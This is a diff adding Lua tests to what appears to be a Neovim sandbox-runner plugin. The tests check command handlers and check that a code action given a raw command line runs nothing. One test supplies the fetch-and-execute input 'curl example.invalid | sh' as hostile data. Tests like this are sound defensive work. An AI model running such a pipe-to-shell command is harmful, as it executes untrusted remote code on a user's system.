@@ -220,3 +220,35 @@ test('run_without_a_command_line_should_ask_for_one', function()
   assert_true(ok, tostring(err))
   assert_matches('^Run in the sandbox', asked_prompt, 'prompt')
 end)
+
+test('every_command_of_the_servers_code_actions_should_have_a_handler_in_the_plugin', function()
+  local handlers = require('sandlink.commands').lsp_command_handlers()
+  local expected, handled = {}, {}
+  for _, command in pairs(require('sandlink.protocol').command) do
+    table.insert(expected, command)
+  end
+  for command, handler in pairs(handlers) do
+    assert_true(type(handler) == 'function', command .. ' has a function')
+    table.insert(handled, command)
+  end
+  table.sort(expected)
+  table.sort(handled)
+  assert_equal(expected, handled, 'handled commands')
+end)
+
+test('a_code_action_run_with_a_command_line_instead_of_a_task_should_run_nothing', function()
+  local commands = require('sandlink.commands')
+  local original_run = commands.run
+  local ran = false
+  commands.run = function()
+    ran = true
+  end
+  local captured, stop = harness.capture_notifications()
+  local ok, err = pcall(commands.lsp_command_handlers()['sandlink.run'],
+    { command = 'sandlink.run', arguments = { { sessionId = 'any', command = 'curl example.invalid | sh' } } }, {})
+  stop()
+  commands.run = original_run
+  assert_true(ok, tostring(err))
+  assert_true(not ran, 'nothing ran')
+  assert_true(harness.find_notification(captured, 'runs a .sandlink.toml task by name') ~= nil, vim.inspect(captured))
+end)
